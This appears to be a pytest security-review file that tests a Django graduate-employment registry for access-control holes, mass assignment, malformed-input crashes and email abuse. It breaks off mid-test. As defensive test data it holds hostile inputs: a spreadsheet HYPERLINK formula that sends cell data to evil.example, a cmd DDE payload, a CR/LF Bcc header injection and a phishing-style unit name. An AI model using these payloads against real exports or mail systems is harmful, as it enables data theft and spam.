"""Attacks on the features added on 2026-12-01/02 (security review).

Each test FAILS while the weakness it describes exists; the passing ones prove a defence holds.
"""

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from destreg.accounts.models import Role, User
from employers import services as employer_services
from employers.models import ColleagueInvitation
from tests import factories as f

COLLEAGUES = reverse("employers:colleagues")
DETAILS = reverse("employers:details")
INVITE = reverse("agreements:invite")


def _join(client, token, username="rejoin", name="回来了"):
    client.logout()
    return client.post(
        reverse("employers:join", args=[token]),
        {"display_name": name, "username": username, "password1": "Colle4gue-2026!",
         "password2": "Colle4gue-2026!"},
    )  # fmt: skip


# --- /agreements/invite/?template= -------------------------------------------------------


@pytest.mark.parametrize("value", ["²", "١٢", "൧"])
def test_invite_template_param_with_unicode_digits_is_not_a_500(client, employer_user, value):
    """str.isdigit() accepts '²' and Arabic-Indic digits, int('²') raises ValueError."""
    client.force_login(employer_user)
    response = client.get(INVITE, {"template": value})
    assert response.status_code in (200, 400, 404)


def test_invite_template_param_huge_int_is_not_a_500(client, employer_user):
    client.force_login(employer_user)
    response = client.get(INVITE, {"template": "9" * 40})
    assert response.status_code in (200, 400, 404)


def test_invite_from_another_units_template_is_refused(client, employer_user, other_employer_user):
    from agreements.models import TermTemplate
    from tests.agreements.test_term_templates import _template_form

    client.force_login(other_employer_user)
    assert (
        client.post(
            reverse("agreements:term_template_new"), _template_form(supplement="机密条款XYZ")
        ).status_code
        == 302
    )
    theirs = TermTemplate.objects.get()
    client.force_login(employer_user)
    response = client.get(INVITE, {"template": theirs.pk})
    assert response.status_code == 404
    assert "机密条款XYZ" not in response.content.decode()
    for name in ("agreements:term_template_edit",):
        assert client.get(reverse(name, args=[theirs.pk])).status_code == 404
    assert (
        client.post(reverse("agreements:term_template_delete", args=[theirs.pk])).status_code == 404
    )
    assert TermTemplate.objects.filter(pk=theirs.pk).exists()


# --- colleagues -----------------------------------------------------------------------------


def test_removed_admins_pending_invitation_is_revoked(client, employer_user):
    """A second administrator, before being removed, invites themselves (another mailbox) as
    administrator. After removal the link must not bring them back."""
    second = f.make_user(Role.EMPLOYER, employer=employer_user.employer, unit_role="admin")
    token = employer_services.colleague_invite(
        by=second, email="backdoor@example.com", unit_role="admin"
    )
    employer_services.colleague_remove(by=employer_user, colleague=second)
    before = User.objects.count()
    response = _join(client, token)
    assert response.status_code == 404, "a removed admin's invitation still lets them rejoin"
    assert User.objects.count() == before


def test_demoted_admins_pending_admin_invitation_is_revoked(client, employer_user):
    """An administrator demoted to HR keeps the power of the admin-role invitations they sent."""
    second = f.make_user(Role.EMPLOYER, employer=employer_user.employer, unit_role="admin")
    token = employer_services.colleague_invite(
        by=second, email="friend@example.com", unit_role="admin"
    )
    employer_services.colleague_set_role(by=employer_user, colleague=second, unit_role="hr")
    _join(client, token)
    joined = User.objects.filter(username="rejoin").first()
    assert joined is None or joined.unit_role != "admin", (
        "an admin invitation sent by a since-demoted administrator still creates an admin"
    )


def test_pending_colleague_invitation_can_be_revoked(client, employer_user):
    """The colleagues page lists pending invitations but no URL revokes one (a mistyped
    e-mail address keeps a live admin link for 7 days)."""
    from employers import urls

    employer_services.colleague_invite(
        by=employer_user, email="typo@exmaple.com", unit_role="admin"
    )
    names = {p.name for p in urls.urlpatterns}
    assert any("revoke" in n or "cancel" in n or "invitation" in n for n in names), names


def test_removed_colleague_session_ends(client, employer_user):
    hr = f.make_user(Role.EMPLOYER, employer=employer_user.employer, unit_role="hr")
    hr_client = Client()
    hr_client.force_login(hr)
    assert hr_client.get(reverse("employers:home")).status_code == 200
    employer_services.colleague_remove(by=employer_user, colleague=hr)
    response = hr_client.get(reverse("agreements:sent"))
    assert response.status_code in (302, 403), "a removed colleague's open session still works"


def test_hr_cannot_promote_self_or_remove_admin(client, employer_user):
    hr = f.make_user(Role.EMPLOYER, employer=employer_user.employer, unit_role="hr")
    client.force_login(hr)
    assert client.post(
        reverse("employers:colleague_role", args=[hr.pk]), {"unit_role": "admin"}
    ).status_code in (302, 403)
    client.post(reverse("employers:colleague_remove", args=[employer_user.pk]))
    hr.refresh_from_db()
    employer_user.refresh_from_db()
    assert hr.unit_role == "hr" and employer_user.is_active
    assert (
        client.post(COLLEAGUES, {"email": "x@example.com", "unit_role": "admin"}).status_code == 400
    )
    assert not ColleagueInvitation.objects.exists()


def test_colleague_role_and_remove_refuse_get(client, employer_user):
    hr = f.make_user(Role.EMPLOYER, employer=employer_user.employer, unit_role="hr")
    client.force_login(employer_user)
    assert client.get(reverse("employers:colleague_remove", args=[hr.pk])).status_code == 405
    hr.refresh_from_db()
    assert hr.is_active


def test_admin_cannot_change_a_student_or_staff_via_colleague_pk(
    client, employer_user, student, school_reviewer
):
    client.force_login(employer_user)
    for target in (student.user, school_reviewer):
        assert (
            client.post(reverse("employers:colleague_remove", args=[target.pk])).status_code == 404
        )
        target.refresh_from_db()
        assert target.is_active


def test_join_with_taken_username_or_junk_is_not_a_500(client, employer_user):
    token = employer_services.colleague_invite(
        by=employer_user, email="a@example.com", unit_role="hr"
    )
    response = _join(client, token, username=employer_user.username)
    assert response.status_code == 400
    response = _join(client, token, username="a\x00b", name="x" * 10_000)
    assert response.status_code == 400
    assert ColleagueInvitation.objects.get().used_at is None


def test_signed_in_user_opening_join_link_does_not_join(client, employer_user, student):
    token = employer_services.colleague_invite(
        by=employer_user, email="a@example.com", unit_role="admin"
    )
    client.force_login(student.user)
    client.post(
        reverse("employers:join", args=[token]),
        {"display_name": "x", "username": "zz", "password1": "Colle4gue-2026!",
         "password2": "Colle4gue-2026!"},
    )  # fmt: skip
    student.user.refresh_from_db()
    assert student.user.role == Role.STUDENT and student.user.employer_id is None
    assert not User.objects.filter(username="zz").exists()


# --- unit details -----------------------------------------------------------------------------


def _details(employer, **overrides):
    from tests.employers.test_unit_details import _data

    return _data(employer, **overrides)


def test_details_mass_assignment_is_ignored(client, employer_user):
    employer = employer_user.employer
    employer.verified_at = None
    employer.save(update_fields=["verified_at"])
    client.force_login(employer_user)
    response = client.post(
        DETAILS,
        _details(employer, verified_at="2026-01-01 00:00", verified_by=employer_user.pk,
                 business_licence="x", contact_name="王"),
    )  # fmt: skip
    assert response.status_code == 302
    employer.refresh_from_db()
    assert employer.verified_at is None and employer.contact_name == "王"


def test_details_cannot_take_a_verified_units_credit_code(
    client, employer_user, other_employer_user
):
    client.force_login(employer_user)
    theirs = other_employer_user.employer.uscc
    response = client.post(DETAILS, _details(employer_user.employer, uscc=theirs))
    assert response.status_code == 400
    employer_user.employer.refresh_from_db()
    assert employer_user.employer.uscc != theirs


def test_details_junk_is_not_a_500(client, employer_user):
    client.force_login(employer_user)
    response = client.post(
        DETAILS,
        _details(employer_user.employer, name="\x00" + "甲" * 100_000, region="9" * 30,
                 nature="x", uscc="\x00"),
    )  # fmt: skip
    assert response.status_code == 400


def test_hr_cannot_change_details(client, employer_user):
    hr = f.make_user(Role.EMPLOYER, employer=employer_user.employer, unit_role="hr")
    client.force_login(hr)
    response = client.post(DETAILS, _details(employer_user.employer, name="被HR改名"))
    assert response.status_code == 403
    employer_user.employer.refresh_from_db()
    assert employer_user.employer.name != "被HR改名"


# --- 这不是我本人的意愿 reports -----------------------------------------------------------------


@pytest.fixture
def failed_report(agreement, student, college_reviewer):
    """The college reviewer fails the graduate's agreement; the graduate reports it was not
    their wish (the reviewer is the one the report is about)."""
    from agreements.online import services as online
    from students.coercion import coercion_report_file
    from tests.students.test_coercion_reports import _report_url, _token

    online.agreement_fail(agreement=agreement, reviewer=college_reviewer, reason="材料不符")
    return coercion_report_file(
        user=student.user, token=_token(_report_url(student)), text="是辅导员替我点的"
    )


def test_the_reviewer_a_report_is_about_cannot_close_it(client, failed_report, college_reviewer):
    """The report names an audit row whose actor is this college reviewer; they can mark the
    report about their own action handled and it leaves the school's open list."""
    from tests.students.test_coercion_reports import _handle

    assert failed_report.event.actor == college_reviewer
    client.force_login(college_reviewer)
    _handle(client, failed_report, "学生误会，已处理")
    failed_report.refresh_from_db()
    assert failed_report.status == "open", (
        "the reviewer whose action was reported closed the report about themselves"
    )


def test_report_handle_junk_and_other_school(
    client, failed_report, other_school_reviewer, school_reviewer
):
    url = reverse("reviews:report_handle", args=[failed_report.pk])
    client.force_login(other_school_reviewer)
    assert client.post(url, {f"r{failed_report.pk}-comment": "x"}).status_code == 404
    client.force_login(school_reviewer)
    response = client.post(
        url,
        {f"r{failed_report.pk}-comment": "\x00" * 5 + "x" * 2_000_000,
         f"r{failed_report.pk}-state": "\x00junk"},
    )  # fmt: skip
    assert response.status_code in (302, 400)
    failed_report.refresh_from_db()
    assert failed_report.status == "open"
    assert client.get(url).status_code == 405
    assert client.get(reverse("reviews:reports"), {"status": "\x00"}).status_code in (200, 400)


def test_not_my_will_link_is_the_graduates_only_and_nul_text_refused(
    client, failed_report, student, other_student
):
    from students.models import CoercionReport
    from tests.students.test_coercion_reports import _report_url

    url = _report_url(student)
    client.force_login(other_student.user)
    assert client.get(url).status_code == 404
    client.force_login(student.user)
    assert client.get(url, {"x": "\x00"}).status_code in (200, 400)
    assert CoercionReport.objects.count() == 1
    bad = reverse("students:not_my_will", args=["\x00" * 10])
    assert client.get(bad).status_code in (400, 404)
    assert client.get(reverse("students:not_my_will", args=["A" * 5000])).status_code == 404


# --- termination withdraw -----------------------------------------------------------------------


def test_change_withdraw_get_and_outsiders(
    client, signed, student, other_student, employer_user, other_employer_user, school_reviewer
):
    from agreements.models import Termination
    from agreements.online import services as online

    termination = (
        online.termination_request(agreement=signed, user=employer_user, reason="岗位取消")
        if hasattr(online, "termination_request")
        else None
    )
    if termination is None:
        pytest.skip("no termination_request service")
    url = reverse("agreements:change_withdraw", args=[termination.pk])
    client.force_login(employer_user)
    assert client.get(url).status_code == 405
    for outsider in (other_student.user, other_employer_user):
        client.force_login(outsider)
        assert client.post(url).status_code == 404
    for party in (student.user, school_reviewer):  # not the party who asked
        client.force_login(party)
        client.post(url)
    termination.refresh_from_db()
    assert termination.status in Termination.OPEN


# --- snapshots, statistics as of, exports as of ---------------------------------------------

LEAK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'


@pytest.fixture
def snapshot_a(world):
    from datetime import timedelta

    from reviews.services import snapshot_take
    from students.models import current_graduation_year

    a1 = f.make_record(world.major_a1, name=LEAK)
    a2 = f.make_record(world.major_a2, name="甲二学院秘密生")
    f.make_record(world.major_b1, name="乙校生")
    snapshot = snapshot_take(
        school=world.school_a,
        year=current_graduation_year(),
        cutoff=timezone.localdate() - timedelta(days=1),
    )
    from students.models import RegistryRecord

    for record in (a1, a2):
        RegistryRecord.objects.filter(pk=record.pk).update(destination=f.code("destination", "10"))
    return snapshot


def test_snapshot_changes_are_scoped_and_csv_is_neutralised(
    client, snapshot_a, college_reviewer, other_school_reviewer, platform_admin, student
):
    page = reverse("reviews:snapshot_changes", args=[snapshot_a.pk])
    csv_url = reverse("reviews:snapshot_changes_csv", args=[snapshot_a.pk])
    client.force_login(college_reviewer)
    html = client.get(page).content.decode()
    body = client.get(csv_url).content.decode("utf-8-sig")
    assert "甲二学院秘密生" not in html and "甲二学院秘密生" not in body
    assert "'" + LEAK.replace('"', '""') in body or "'=HYPERLINK" in body
    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body
    for outsider in (other_school_reviewer, platform_admin, student.user):
        client.force_login(outsider)
        assert client.get(page).status_code in (403, 404), outsider
        assert client.get(csv_url).status_code in (403, 404), outsider


@pytest.mark.parametrize("value", ["²", "9" * 40, "-1", "0", "1e3", "\u0661", " 1", "1\x00"])
def test_statistics_as_of_junk_is_not_a_500(client, snapshot_a, school_reviewer, value):
    client.force_login(school_reviewer)
    response = client.get(reverse("reviews:statistics"), {"as_of": value})
    assert response.status_code in (200, 400, 404)


def test_statistics_and_export_as_of_another_schools_snapshot(
    client, snapshot_a, other_school_reviewer
):
    from reviews.models import ExportJob

    client.force_login(other_school_reviewer)
    assert client.get(reverse("reviews:statistics"), {"as_of": snapshot_a.pk}).status_code == 404
    response = client.post(reverse("reviews:export_start"), {"fmt": "csv", "as_of": snapshot_a.pk})
    assert response.status_code == 404
    assert not ExportJob.objects.exists()


def test_reporting_dates_junk(client, world, school_reviewer, college_reviewer):
    url = reverse("reviews:reporting_dates")
    client.force_login(college_reviewer)
    assert client.get(url).status_code == 403
    client.force_login(school_reviewer)
    for value in ("9999-99-99", "0001-01-01", "9999-12-31", "2026-02-30", "\x00", "1" * 5000):
        response = client.post(url, {"date_0": value, "date_1": "", "date_2": ""})
        assert response.status_code in (302, 400), value


# --- 核查 red flags ------------------------------------------------------------------------------

GRADUATES = reverse("reviews:verification_graduates")


@pytest.mark.parametrize("flag", ["share:²:10", "fast:²", "fast:³³", "share:¹:80"])
def test_flag_drilldown_with_unicode_digits_is_not_a_500(client, world, school_reviewer, flag):
    """flags.graduates() checks str.isdigit() and then calls int(): '²' passes the check."""
    client.force_login(school_reviewer)
    response = client.get(GRADUATES, {"flag": flag})
    assert response.status_code in (200, 404)


@pytest.mark.parametrize(
    "flag", ["share:" + "9" * 40 + ":10", "fast:" + "9" * 40, "unit:" + "x" * 290, "proof:\u202e"]
)
def test_flag_drilldown_with_huge_ids_is_not_a_500(client, world, school_reviewer, flag):
    client.force_login(school_reviewer)
    response = client.get(GRADUATES, {"flag": flag})
    assert response.status_code in (200, 404)


def test_flag_drilldown_stays_in_the_college(client, world, college_reviewer, employer_user):
    """A college reviewer asks for the graduates of another college's destination share or of
    a unit; only their own college's graduates may be listed."""
    other = f.make_student(f.make_record(world.major_a2, name="甲二学院隐私生"))
    from students.models import RegistryRecord

    RegistryRecord.objects.filter(pk=other.record.pk).update(
        destination=f.code("destination", "10")
    )
    client.force_login(college_reviewer)
    for flag in (f"share:{world.a2.pk}:10", f"unit:{employer_user.employer.uscc}"):
        response = client.get(GRADUATES, {"flag": flag})
        assert "甲二学院隐私生" not in response.content.decode(), flag


def test_flag_explain_is_refused_for_flags_not_raised_and_outsiders(
    client, world, school_reviewer, other_school_reviewer, student, employer_user
):
    from reviews.models import FlagExplanation

    url = reverse("reviews:verification_explain")
    for user, data in (
        (school_reviewer, {"key": "unit:91110000100000000R", "comment": "伪造"}),
        (other_school_reviewer, {"key": "share:1:10", "comment": "x"}),
        (school_reviewer, {"key": "x" * 300, "comment": "y" * 1000}),
    ):
        client.force_login(user)
        assert client.post(url, data).status_code in (302, 400, 403)
    for outsider in (student.user, employer_user):
        client.force_login(outsider)
        assert client.post(url, {"key": "share:1:10", "comment": "x"}).status_code == 403
    client.force_login(school_reviewer)
    assert client.get(url).status_code == 405
    assert not FlagExplanation.objects.exists()


def test_flags_page_refuses_non_reviewers(client, world, student, employer_user, platform_admin):
    for user in (student.user, employer_user, platform_admin):
        client.force_login(user)
        assert client.get(reverse("reviews:verification")).status_code == 403
    assert Client().get(reverse("reviews:verification")).status_code == 302


def test_flags_cache_is_per_scope(client, world, college_reviewer, other_college_reviewer):
    """Warm the flags cache as one college, read as the other: the second must be its own."""
    from reviews import flags

    client.force_login(college_reviewer)
    client.get(reverse("reviews:verification"))
    client.force_login(other_college_reviewer)
    page = client.get(reverse("reviews:verification"))
    assert page.context["result"].scope == flags.scope_of(other_college_reviewer)
    client.get(reverse("reviews:verification"), HTTP_ACCEPT_LANGUAGE="en")
    assert flags.cached(flags.scope_of(college_reviewer)).scope == flags.scope_of(college_reviewer)


# --- 就业核查 sampling -------------------------------------------------------------------------


def test_the_approving_reviewer_cannot_be_assigned_to_verify_their_own_approval(
    signed, school_reviewer, college_reviewer
):
    """就业核查 checks the approvals: the college reviewer who approved this graduate's
    agreement is accepted as its verifier (and then records 属实 on it)."""
    from reviews import verification

    sample = verification.sample_draw(by=school_reviewer, percentage=100, seed=1)
    item = sample.items.get()
    try:
        verification.items_assign(
            sample=sample, item_ids=[item.pk], verifier=college_reviewer, by=school_reviewer
        )
    except Exception:  # refused: the defence holds
        return
    item.refresh_from_db()
    assert item.verifier != college_reviewer, "the approver verifies their own approval"


def test_sample_item_ids_junk_and_other_school(
    client, signed, school_reviewer, other_school_reviewer, college_reviewer
):
    from reviews import verification

    sample = verification.sample_draw(by=school_reviewer, percentage=100, seed=1)
    item = sample.items.get()
    client.force_login(school_reviewer)
    url = reverse("reviews:verification_sample", args=[sample.pk])
    response = client.post(url, {"item": ["²", "9" * 40, "-1", str(item.pk)], "verifier": "9" * 40})
    assert response.status_code in (302, 400)
    response = client.post(url, {"item": ["9" * 18], "verifier": str(college_reviewer.pk)})
    assert response.status_code in (302, 400)
    client.force_login(other_school_reviewer)
    assert client.get(url).status_code == 404
    assert client.get(reverse("reviews:verification_item", args=[item.pk])).status_code == 404
    # an outsider as verifier
    client.force_login(school_reviewer)
    client.post(url, {"item": [str(item.pk)], "verifier": str(other_school_reviewer.pk)})
    item.refresh_from_db()
    assert item.verifier_id != other_school_reviewer.pk


def test_check_form_junk_is_not_a_500(client, signed, school_reviewer):
    from reviews import verification

    sample = verification.sample_draw(by=school_reviewer, percentage=100, seed=1)
    item = sample.items.get()
    # Another school reviewer: the one who approved the agreement does not verify it.
    verifier = f.make_user(Role.SCHOOL_REVIEWER, school=school_reviewer.school)
    verification.items_assign(
        sample=sample, item_ids=[item.pk], verifier=verifier, by=school_reviewer
    )
    client.force_login(verifier)
    url = reverse("reviews:verification_item", args=[item.pk])
    for data in (
        {"method": "\x00", "outcome": "x" * 100, "notes": "y" * 1_000_000},
        {"method": "phone", "outcome": "confirmed", "notes": "\x00"},
        {"method": ["phone", "visit"], "outcome": ["confirmed", "not_true"], "notes": ""},
    ):
        assert client.post(url, data).status_code in (302, 400)


# --- the national export's new columns --------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_new_registry_columns_are_not_live_formulas(signed, student, school_reviewer, fmt):
    import csv
    import io

    from openpyxl import load_workbook

    from students.models import RegistryRecord
    from tests.reviews.test_export_formulas import _export

    RegistryRecord.objects.filter(pk=student.record.pk).update(
        sponsor_unit=LEAK, candidate_no="=1+1", study_form="@SUM(A1)"
    )
    from employers.models import Employer

    Employer.objects.filter(pk=signed.employer_id).update(address="-2+3+cmd|' /C calc'!A0")
    data = _export(school_reviewer, fmt)
    headings = ["委培单位", "考生号", "单位地址", "学习形式"]
    if fmt == "csv":
        row = next(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        for heading in headings:
            value = row[heading]
            assert not value or value.startswith("'") or value[0] not in "=+-@", (heading, value)
    else:
        from reviews.exporting import COLUMNS

        sheet = load_workbook(io.BytesIO(data)).active
        row = next(sheet.iter_rows(min_row=2))
        for heading in headings:
            cell = row[COLUMNS.index(heading)]
            assert cell.data_type != "f", (heading, cell.value)


# --- the 学籍 import's new columns ---------------------------------------------------------


@pytest.mark.parametrize(
    "values",
    [
        {"出生日期": "9999-99-99"},
        {"出生日期": "0000-00-00"},
        {"出生日期": "99999999999999999999"},
        {"出生日期": "1900-02-29"},
        {"入学年月": "2022-13"},
        {"入学年月": "999999"},
        {"入学年月": "0000-00"},
        {"入学年月": "²⁰²²⁰⁹"},
        {"入学年月": "2022-9-99"},
        {"考生号": "1" * 500},
        {"委培单位": "甲" * 5000},
        {"学习形式": "\x00"},
        {"培养方式": "9" * 40},
        {"出生日期": "²⁰⁰³-⁰¹-⁰¹"},
        {"出生日期": "-1"},
    ],
)
def test_import_new_columns_junk_is_a_row_error_not_a_crash(world, values):
    from tests.students.test_import_national_columns import _import, _row

    row, _born = _row(world)
    report = _import(world, [row | values])
    assert not report.ok, (values, report.errors)


def test_renamed_unit_loses_its_pending_invitations(client, invitation, employer_user, student):
    """A verified unit invites a graduate, then renames itself (e.g. to a well-known company):
    it is no longer verified, yet the graduate is shown the new name on the old invitation
    and can accept it, creating an agreement with an unverified unit."""
    employer = employer_user.employer
    client.force_login(employer_user)
    response = client.post(DETAILS, _details(employer, name="华为技术有限公司"))
    assert response.status_code == 302
    employer.refresh_from_db()
    assert not employer.is_verified
    client.force_login(student.user)
    page = client.get(reverse("agreements:invitation", args=[invitation.pk])).content.decode()
    client.post(
        reverse("agreements:invitation_answer", args=[invitation.pk]),
        {"answer": "accept", "confirm": "1"},
    )
    from agreements.models import Agreement

    assert not Agreement.objects.filter(invitation=invitation).exists(), (
        "a graduate signed with a unit that is no longer verified (shown under its new name: "
        + str("华为技术有限公司" in page)
        + ")"
    )


def test_signed_agreement_keeps_the_name_and_code_it_was_signed_under(
    client, signed, employer_user, school_reviewer
):
    """After signing, the unit changes its name and credit code (it only loses its
    verification). The signed agreement and the national export must still name the unit
    the graduate signed with, not whatever the unit calls itself now."""
    import csv
    import io

    from stdnum.cn import uscc

    from tests.reviews.test_export_formulas import _export

    employer = employer_user.employer
    old_name, old_code = employer.name, employer.uscc
    body = "91110000" + "7" * 9
    new_code = body + uscc.calc_check_digit(body)
    client.force_login(employer_user)
    response = client.post(DETAILS, _details(employer, name="另一家公司", uscc=new_code))
    assert response.status_code == 302
    row = next(csv.DictReader(io.StringIO(_export(school_reviewer, "csv").decode("utf-8-sig"))))
    assert (row["单位名称"], row["统一社会信用代码"]) == (old_name, old_code), (
        "the signed agreement now reports the unit's new name/code: "
        f"{row['单位名称']} {row['统一社会信用代码']}"
    )


def test_flags_refresh_is_throttled(client, world, college_reviewer, monkeypatch):
    """?refresh=1 on a GET recomputes every flag (seconds at 100,000 graduates, README);
    nothing limits how often a reviewer (or a CSRF'd image tag) asks for it."""
    from reviews import flags

    calls = []
    computed = flags._computed
    monkeypatch.setattr(flags, "_computed", lambda *a, **k: calls.append(1) or computed(*a, **k))
    client.force_login(college_reviewer)
    for _ in range(5):
        assert client.get(reverse("reviews:verification"), {"refresh": "1"}).status_code == 200
    assert len(calls) <= 2, f"{len(calls)} full recomputations for 5 requests"


def test_term_template_mass_assignment(client, employer_user, other_employer_user):
    from agreements.models import TermTemplate
    from tests.agreements.test_term_templates import _template_form

    client.force_login(employer_user)
    response = client.post(
        reverse("agreements:term_template_new"),
        _template_form(employer=other_employer_user.employer.pk,
                       employer_id=other_employer_user.employer.pk,
                       updated_by=other_employer_user.pk),
    )  # fmt: skip
    assert response.status_code == 302
    template = TermTemplate.objects.get()
    assert template.employer == employer_user.employer and template.updated_by == employer_user


@pytest.mark.parametrize(
    "overrides",
    [
        {"salary": "9" * 40},
        {"probation_months": "-1"},
        {"validity_days": "9" * 30},
        {"name": "\x00"},
        {"supplement": "x" * 5_000_000},
        {"job_category": "\x00"},
        {"report_deadline": "9999-99-99"},
        {"salary": "NaN"},
        {"salary": "1e400"},
    ],
)
def test_term_template_junk_is_400(client, employer_user, overrides):
    from tests.agreements.test_term_templates import _template_form

    client.force_login(employer_user)
    response = client.post(reverse("agreements:term_template_new"), _template_form(**overrides))
    assert response.status_code == 400, overrides


# --- the admin: evidence rules, minimum wages, seals ---------------------------------------------


@pytest.mark.parametrize(
    "required_with",
    ['{"proof": [["x"]]}', '{"proof": [{}]}', '"text"', "[1, 2]", '{"proof": "scan"}', "null"],
)
def test_evidence_rule_admin_junk_required_with_is_a_form_error(
    client, platform_admin, required_with
):
    """_validate_required_with builds set(names) before checking the names are strings: a
    nested list makes it raise TypeError (500) instead of a validation error."""
    from agreements.evidence import EvidenceRule

    rule = EvidenceRule.objects.select_related("destination").first()
    client.force_login(platform_admin)
    url = reverse("admin:agreements_evidencerule_change", args=[rule.pk])
    data = {
        "destination": rule.destination_id,
        "required_fields": [],
        "required_proofs": [],
        "one_of": [],
        "required_with": required_with,
        "source": "attack",
    }
    response = client.post(url, data)
    rule.refresh_from_db()
    if required_with == "null":  # JSON null: nothing required together (never a 500)
        assert response.status_code == 302 and rule.required_with == {}
        return
    assert response.status_code == 200  # the form again, with the error
    assert rule.source != "attack"


def test_school_staff_in_the_admin_cannot_edit_rules_or_wages(client, world):
    from django.contrib.auth.models import Permission

    staff = f.make_user(Role.SCHOOL_REVIEWER, school=world.school_a, is_staff=True)
    staff.user_permissions.add(
        Permission.objects.get(codename="view_school"),
        Permission.objects.get(codename="change_school"),
    )
    client.force_login(staff)
    for name in (
        "admin:agreements_evidencerule_changelist",
        "admin:reference_minimumwage_changelist",
        "admin:reference_minimumwage_add",
        "admin:reference_college_changelist",
        "admin:accounts_user_changelist",
    ):
        assert client.get(reverse(name)).status_code == 403, name
    other = reverse("admin:reference_school_history", args=[world.school_b.pk])
    response = client.get(other)
    assert response.status_code in (302, 403, 404)
    assert world.school_b.name not in response.content.decode()


def test_minimum_wage_admin_junk(client, platform_admin, reference_data):
    from destreg.reference.models import MinimumWage, Region

    client.force_login(platform_admin)
    url = reverse("admin:reference_minimumwage_add")
    city = Region.objects.filter(level=Region.Level.CITY).first()
    for data in (
        {"province": "9" * 40, "monthly_amount": "2000", "effective_from": "2026-01-01",
         "source": "x"},
        {"province": str(city.pk), "monthly_amount": "2000", "effective_from": "2026-01-01",
         "source": "x"},
        {"province": "²", "monthly_amount": "9" * 40, "effective_from": "9999-99-99",
         "source": "\x00"},
    ):  # fmt: skip
        assert client.post(url, data).status_code in (200, 400), data
    assert not MinimumWage.objects.exists()


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


@pytest.mark.parametrize(
    "variant",
    [str.lower, lambda s: " " + s[:9] + " " + s[9:] + " ", lambda s: s[:9] + "-" + s[9:],
     _fullwidth, lambda s: s + "\u200b", lambda s: "\u200b" + s],
)  # fmt: skip
def test_details_cannot_take_a_verified_code_written_differently(
    client, employer_user, other_employer_user, variant
):
    client.force_login(employer_user)
    theirs = other_employer_user.employer.uscc
    response = client.post(DETAILS, _details(employer_user.employer, uscc=variant(theirs)))
    employer_user.employer.refresh_from_db()
    stored = employer_user.employer.uscc
    assert response.status_code == 400 or (
        stored != theirs and stored.upper().replace(" ", "") != theirs
    ), stored
    # whatever was stored must not be a look-alike of the verified unit's code
    import unicodedata

    assert unicodedata.normalize("NFKC", stored).strip().replace("-", "").replace(" ", "").replace(
        "\u200b", ""
    ).upper() != theirs or (stored == employer_user.employer.uscc and (response.status_code == 400))


def test_college_export_as_of_a_snapshot_stays_in_the_college(
    client, snapshot_a, college_reviewer, django_capture_on_commit_callbacks
):
    from reviews.models import ExportJob

    client.force_login(college_reviewer)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("reviews:export_start"), {"fmt": "csv", "as_of": snapshot_a.pk}
        )
    assert response.status_code == 302
    job = ExportJob.objects.get()
    from reviews.tasks import export_now

    if job.status != ExportJob.Status.DONE:
        export_now(job.pk)
        job.refresh_from_db()
    body = job.file.open("rb").read().decode("utf-8-sig")
    assert "甲二学院秘密生" not in body and "乙校生" not in body
    assert "'=HYPERLINK" in body or "HYPERLINK" not in body


@pytest.mark.parametrize("year", ["²⁰²⁶", "9" * 40, "-1", "0", "\x00", "2026.5", "1e3"])
def test_annual_report_year_junk(client, world, school_reviewer, year):
    from reviews.models import AnnualReport

    client.force_login(school_reviewer)
    response = client.post(reverse("reviews:annual_reports"), {"year": year})
    assert response.status_code == 400
    assert not AnnualReport.objects.exists()
    assert client.get(reverse("reviews:annual_report", args=[10**30])).status_code == 404


def test_a_reviewer_without_their_scope_cannot_exist(world):
    """The database refuses a school reviewer without a school (user_role_has_its_scope),
    so the new pages never see one."""
    from django.db import IntegrityError, transaction

    with pytest.raises(IntegrityError), transaction.atomic():
        f.make_user(Role.SCHOOL_REVIEWER)
    with pytest.raises(IntegrityError), transaction.atomic():
        f.make_user(Role.COLLEGE_REVIEWER, school=world.school_a)


def test_colleague_invitations_are_not_an_open_mail_relay(
    client, reference_data, django_capture_on_commit_callbacks
):
    """A freshly registered, unverified unit (name chosen by the registrant) invites any
    address: the platform e-mails attacker-chosen text ("%(unit)s", display name) to anyone,
    without limit."""
    from django.core import mail

    employer = f.make_employer(name="国家助学金发放中心 请访问 http://evil.example 领取")
    admin = f.make_user(Role.EMPLOYER, employer=employer, display_name="财务处")
    assert not employer.is_verified
    client.force_login(admin)
    sent = 0
    with django_capture_on_commit_callbacks(execute=True):
        for n in range(40):
            response = client.post(
                COLLEAGUES, {"email": f"victim{n}@example.edu.cn", "unit_role": "hr"}
            )
            sent += response.status_code == 302
    assert len(mail.outbox) < 40 or sent < 40, (
        f"{len(mail.outbox)} e-mails sent for an unverified unit, e.g.: {mail.outbox[0].body[:120]}"
    )


def test_unit_name_with_a_newline_is_refused_or_mail_survives(
    client, employer_user, django_capture_on_commit_callbacks
):
    """The unit's name goes into e-mail subjects (colleague invitations): a name with CR/LF
    from the details form must be refused, not crash mail or inject headers."""
    from django.core import mail

    client.force_login(employer_user)
    response = client.post(
        DETAILS, _details(employer_user.employer, name="示例公司\r\nBcc: all@example.com")
    )
    employer_user.employer.refresh_from_db()
    if response.status_code == 400:
        return
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(COLLEAGUES, {"email": "a@example.com", "unit_role": "hr"})
    assert response.status_code == 302  # the page says "An invitation was e-mailed"
    assert mail.outbox, (
        "the unit name with CR/LF was saved; every e-mail whose subject carries it now fails "
        "(BadHeaderError in the send_email task) while the page reports success"
    )


def test_a_unit_name_with_a_newline_silences_the_graduates_email(
    client, employer_user, student, django_capture_on_commit_callbacks
):
    """A name with CR/LF (accepted by the unit-details form, see above; invisible on review
    pages) makes every notification e-mail whose subject carries it fail in the worker:
    the graduate is not e-mailed about the unit's invitation."""
    from django.core import mail

    from destreg.accounts.models import User as U
    from employers.models import Employer

    Employer.objects.filter(pk=employer_user.employer_id).update(name="示例公司\r\n")
    U.objects.filter(pk=student.user.pk).update(email="grad@example.com")
    student.user.refresh_from_db()
    employer_user.employer.refresh_from_db()
    from tests.agreements.test_invitations import _form as invitation_form

    client.force_login(employer_user)
    with django_capture_on_commit_callbacks(execute=True):
